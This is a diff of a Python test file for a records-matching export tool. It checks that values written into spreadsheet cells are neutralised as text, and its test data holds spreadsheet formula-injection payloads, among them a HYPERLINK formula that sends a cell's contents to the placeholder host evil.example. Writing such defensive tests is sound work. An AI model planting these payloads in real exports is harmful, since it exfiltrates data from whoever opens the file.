@@ -48,7 +48,8 @@ def test_a_custody_time_outside_1900_to_2200_is_refused(client, sergeant, when):
     assert r.status_code == 422
 
 
-def test_mips_resolve_writes_formula_cells_as_text(tmp_path):
+def test_mips_resolve_writes_formula_cells_as_text(tmp_path, database_url, monkeypatch):
+    monkeypatch.setenv("MIPS_DATABASE_URL", database_url)  # the run is audited there
     header = "record_id,source,given_name,family_name,dob,sex,address,postcode,pnc_id,cro_number,ni_number,driving_licence"
     ids = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "plain-1"]
     rows = [f'"{rid.replace(chr(34), chr(34) * 2)}",cris,Ann{n},Lee{n},1980-01-0{n + 1},F,,,,,,' for n, rid in enumerate(ids)]
